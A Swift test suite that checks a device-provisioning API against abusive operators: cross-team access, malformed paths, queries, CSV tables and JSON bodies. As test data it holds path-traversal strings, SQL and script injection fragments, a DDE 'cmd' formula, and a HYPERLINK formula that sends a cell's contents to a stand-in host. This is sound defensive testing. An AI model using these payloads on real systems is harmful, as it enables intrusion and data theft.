import Foundation
import ProvisioningAPI
import TestFleet
import Testing

/// Hostile users of the operators' side: paths and tables that mean something else, keys that may not.
@Suite(.serialized) struct OperatorAbuseTests {
    let service: RunningService
    let owner: String
    let device: WireDevice

    init() throws {
        service = try RunningService()
        owner = try service.makeKey("owner")
        device = try WireDevice(seed: 40)
    }

    private static let rule =
        #"{"name":"r","tags":["t"],"commands":[{"request":{"config":{"properties":{"a":"b"}}}}]}"#

    /// A team that has one of everything; the ids for the names in the routing table's paths.
    private func furnish() throws -> [String: String] {
        try service.claim(device, as: owner, tags: #""t""#)
        let command = try service.add(#"{"finished":{}}"#, to: device, as: owner)
        let rule = try service.ask(as: owner, "POST", "/provisioning-rules", Self.rule)
        let bulk = try service.ask(as: owner, "POST", "/claimed-devices/bulk", "x", type: "text/csv")
        try #require(bulk.status == 202, "\(bulk.text)")
        return [
            "{device}": "\(device.device.uuid)", "{command}": command,
            "{rule}": try #require(try rule.json()["id"] as? String),
            "{operation}": try #require(try bulk.json()["bulkOpsRequestId"] as? String), "{id}": "board-1",
        ]
    }

    private func path(_ row: RoutingTable.Row, _ names: [String: String]) -> String {
        names.reduce(row.template) { $0.replacingOccurrences(of: $1.key, with: $1.value) }
    }

    /// Bodies that each route takes, so that nothing but the key stands in the way.
    private func body(_ route: Route) throws -> (text: String, type: String) {
        let command = #"{"request":{"config":{"properties":{"x":"y"}}}}"#
        switch route {
        case .claim: return (#"{"claimToken":"\#(try device.claimToken)"}"#, "application/json")
        case .bulkClaim: return ("\(try device.claimToken)\n", "text/csv")
        case .setTags: return (#"["u"]"#, "application/json")
        case .addCommand, .updateCommand: return (command, "application/json")
        case .createRule:
            return (Self.rule.replacingOccurrences(of: "\"r\"", with: "\"s\""), "application/json")
        case .changeRule: return (#"{"name":"other"}"#, "application/json")
        case .createTag: return (#"{"tag":"v"}"#, "application/json")
        case .onboardDevices: return ("board-1,gateway,,APP,x\n", "text/csv")
        case .verifyAttestationTokens: return (#"{"token":"x"}"#, "application/json")
        case .verifyJWTs: return (#"{"jwt":"x"}"#, "application/json")
        default: return ("", "application/json")
        }
    }

    @Test func aViewerWhoTriesEverything() throws {
        let names = try furnish()
        let viewer = try service.makeKey("viewer")
        let before = try service.everything(of: device, as: owner)
        for row in RoutingTable.rows where !row.route.isDeviceSide && row.route != .getBulkErrors {
            let (text, type) = try body(row.route)
            let answer = try service.ask(as: viewer, row.method, path(row, names), text, type: type)
            // What a viewer may read was claimed by an owner here, so it is not there for one.
            let isReading = row.method == "GET"
            #expect(
                isReading ? [200, 403, 404].contains(answer.status) : answer.status == 403,
                "\(row.method) \(row.template): \(answer.status)")
            if answer.status != 200 { #expect(answer.message?.isEmpty == false, "\(row.template)") }
            #expect(
                !answer.text.contains("\(device.device.uuid)") || row.route == .diagnose, "\(answer.text)")
        }
        for (now, then) in zip(try service.everything(of: device, as: owner), before) { #expect(now == then) }
    }

    @Test func aKeyOfAnotherTeam() throws {
        let names = try furnish()
        let other = try service.makeKey("owner", team: "Yard")
        let before = try service.everything(of: device, as: owner)
        for row in RoutingTable.rows where row.template.contains("{") && row.route != .getBulkErrors {
            let (text, type) = try body(row.route)
            let answer = try service.ask(as: other, row.method, path(row, names), text, type: type)
            // Why a device is not theirs is what they would learn by claiming it, too.
            let expected = row.route == .diagnose ? 200 : 404
            #expect(answer.status == expected, "\(row.method) \(row.template): \(answer.status)")
            #expect(answer.text.range(of: names["{command}"] ?? "-") == nil)
            if row.route == .diagnose {
                #expect(try answer.json()["reason"] as? String == "claimed-elsewhere")
                #expect(try answer.json()["status"] == nil)
            }
        }
        for list in ["/claimed-devices", "/provisioning-rules", "/provisioning/tags", "/bulk-ops-requests"] {
            let answer = try service.ask(as: other, "GET", list)
            #expect((try answer.json()["items"] as? [Any])?.isEmpty == true, "\(list)")
        }
        let claim = try service.ask(
            as: other, "POST", "/claimed-devices", #"{"claimToken":"\#(try device.claimToken)"}"#)
        #expect(claim.status == 409)
        for (now, then) in zip(try service.everything(of: device, as: owner), before) { #expect(now == then) }
    }

    /// No way of writing a path leads past the key or out of the service, and none is a fault.
    @Test(arguments: [
        "/v1/claimed-devices/../account", "/v1/claimed-devices/%2e%2e/account",
        "/v1/claimed-devices/..%2faccount", "/v1/./account", "//v1/account", "/v1//account", "/v1/account/",
        "/v1/account%00", "/v1/account;x=1", "/v1/%61ccount", "/V1/account", "/v1/account#x", "/v1\\account",
        "/v1/claimed-devices/%00", "/v1/claimed-devices/%ff", "/v1/claimed-devices/%c0%ae%c0%ae",
        "/v1/claimed-devices/%", "/v1/claimed-devices/%2", "/v1/claimed-devices/%zz",
        "/v1/claimed-devices/'%20OR%201=1--", "/v1/claimed-devices/*", "/v1/devices/..%2f..%2fetc%2fpasswd",
        "/v1/devices/%3Cscript%3E", "/v1/provisioning-rules/%F0%9F%92%A9/activate", "/healthz/../v1/account",
        "/etc/passwd", "/../data/service.db", "/data/service.db", "*", "/?",
        "/v1/bulk-ops-requests/%25/errors",
        "http://other.example/v1/claimed-devices/%2e%2e",
    ])
    func pathsThatMeanSomethingElse(_ target: String) throws {
        for method in ["GET", "POST", "DELETE"] {
            let answer = try service.ask(
                method, target, headers: ["Authorization: Bearer \(owner)", "Content-Type: application/json"])
            #expect([400, 404, 405].contains(answer.status), "\(method) \(target): \(answer.statusLine)")
            #expect(answer.message?.isEmpty == false, "\(method) \(target)")
            #expect(!answer.text.contains("default"), "\(target)")
        }
    }

    @Test(arguments: [
        "pageLimit=0", "pageLimit=-1", "pageLimit=1001", "pageLimit=99999999999999999999", "pageLimit=1e2",
        "pageLimit=%31%30%30%30%30", "pageLimit=", "pageLimit=1&pageLimit=2", "pageNextToken=-1",
        "pageNextToken=x", "pageNextToken=9223372036854775808", "pageNextToken=1;DROP", "tag=%zz", "tag=%ff",
    ])
    func queriesThatAreNone(_ query: String) throws {
        let answer = try service.ask(as: owner, "GET", "/claimed-devices?\(query)")
        #expect(answer.status == 400, "\(query)")
        #expect(answer.message?.isEmpty == false)
    }

    // MARK: Tables

    /// Rows as spreadsheets and editors leave them, and as somebody writes them who wants them to run.
    @Test func tablesThatMeanSomethingElse() throws {
        try device.register(at: service)
        let token = try device.claimToken
        let formula = "=HYPERLINK(\"\"http://x.example/\"\"&A1)"
        let bodies: KeyValuePairs<String, (String, Int)> = [
            "nothing": ("", 400), "a line": ("\n", 400), "commas": (",,,,\n", 400),
            "a header": ("token,tags\n", 400),
            // That is for files of people; a body has commas.
            "a declared delimiter": ("sep=;\n\(token);\"a\"\n", 400),
            "a formula": ("=cmd|' /C calc'!A0\n\"\(formula)\"\n+1\n-1\n@SUM(1)\n", 400),
            "quotation marks without end": ("\"\(token)\n", 400), "a NUL": ("\(token)\u{0}\n", 400),
            "a token in two": ("\(token.prefix(90))\n\(token.dropFirst(90))\n", 400),
            "too many fields": ("\(token)" + String(repeating: ",x", count: 5000) + "\n", 400),
            "too many rows": (String(repeating: "x\n", count: 1001), 400),
            "one field of a megabyte": (String(repeating: "a", count: 1_000_000), 400),
            "tags with a line feed": ("\(token),\"a\nb\"\n", 400),
            "tags that turn the line": ("\(token),\"a\u{202e}b\"\n", 400),
            "a tag of 300 octets": ("\(token),\(String(repeating: "t", count: 300))\n", 400),
        ]
        for (what, (body, status)) in bodies {
            let answer = try service.ask(as: owner, "POST", "/claimed-devices", body, type: "text/csv")
            #expect(answer.status == status, "\(what): \(answer.text.prefix(300))")
            #expect(answer.message?.isEmpty == false, "\(what)")
            // A refusal never repeats a credential.
            #expect(!answer.text.contains(token), "\(what)")
        }
        #expect(try service.ask(as: owner, "GET", "/claimed-devices").json()["total"] as? Int == 0)
        // What only looks odd is taken as it is.
        let odd = try service.ask(
            as: owner, "POST", "/claimed-devices",
            "\u{feff}\"\(token)\",\"=1+1,location=Trondheim\"\r\n", type: "text/csv; charset=utf-8")
        #expect(odd.status == 201, "\(odd.text)")
        let shown = try service.ask(as: owner, "GET", "/claimed-devices/\(device.device.uuid)")
        #expect(try shown.json()["tags"] as? [String] == ["=1+1", "location=Trondheim"])
    }

    @Test func onboardingTablesThatMeanSomethingElse() throws {
        let bodies = [
            "../../etc/passwd,gateway,,APP,x\n", "=1+1,gateway,,APP,x\n", "a,b,c,d\n", "a,b,c,EVIL,e\n",
            "\"unfinished", ",,,,\n", "\u{0},b,c,APP,e\n",
        ]
        for body in bodies {
            let answer = try service.ask(as: owner, "POST", "/devices", body, type: "text/csv")
            #expect(answer.status == 202, "\(body)")
            let id = try #require(try answer.json()["bulkOpsRequestId"] as? String)
            let operation = try service.ask(as: owner, "GET", "/bulk-ops-requests/\(id)")
            #expect(try operation.json()["status"] as? String == "FAILED", "\(body)")
        }
        #expect((try service.ask(as: owner, "GET", "/devices").json()["items"] as? [Any])?.isEmpty == true)
    }

    // MARK: JSON

    @Test func bodiesThatAreNone() throws {
        try service.claim(device, as: owner)
        let deep = String(repeating: "[", count: 100_000)
        let wide = "[" + String(repeating: "1,", count: 200_000) + "1]"
        let bodies = [
            "", "{", "null", "[]", "\"x\"", "1e999", "{}", #"{"claimToken":1}"#, #"{"claimToken":null}"#,
            #"{"claimToken":"x","claimToken":"y"}"#, #"{"claimToken":"x","more":1}"#, "{\u{0}}",
            "\u{feff}{}x",
            #"{"claimToken":"\ud800"}"#, #"{"claimToken":"x","tags":"t"}"#,
            #"{"claimToken":"x","tags":["a,b"]}"#, deep, wide, #"{"a":"# + deep,
        ]
        for body in bodies {
            for path in ["/claimed-devices", "/claimed-devices/\(device.device.uuid)/provisioning"] {
                let answer = try service.ask(as: owner, "POST", path, body)
                #expect(answer.status == 400, "\(body.prefix(60)) \(answer.text.prefix(200))")
                #expect(answer.message?.isEmpty == false)
                #expect(answer.body.count < 2000)
            }
        }
        let timeouts = ["0", "-1", "2678401", "1.5", "\"60\"", "null", "99999999999999999999"]
        for timeout in timeouts {
            let answer = try service.ask(
                as: owner, "POST", "/claimed-devices/\(device.device.uuid)/provisioning",
                #"{"timeoutSeconds":\#(timeout),"request":{"finished":{}}}"#)
            #expect(answer.status == 400, "\(timeout) \(answer.text)")
        }
        // What is kept is shown again in every list.
        let long = String(repeating: "x", count: 4097)
        for (method, path, body) in [
            ("POST", "/claimed-devices/\(device.device.uuid)/provisioning", #"{"request":{"finished":{}}"#),
            ("POST", "/provisioning/tags", #"{"tag":"t""#),
            ("POST", "/provisioning-rules", String(Self.rule.dropLast())),
        ] {
            let answer = try service.ask(as: owner, method, path, body + #","description":"\#(long)"}"#)
            #expect(answer.status == 400, "\(answer.text)")
            #expect(answer.message?.hasSuffix("expected at most 4096 octets, found 4097") == true)
        }
        #expect(try service.ask("GET", "/metrics").text.contains("\nassayd_faults_total 0\n"))
    }
}
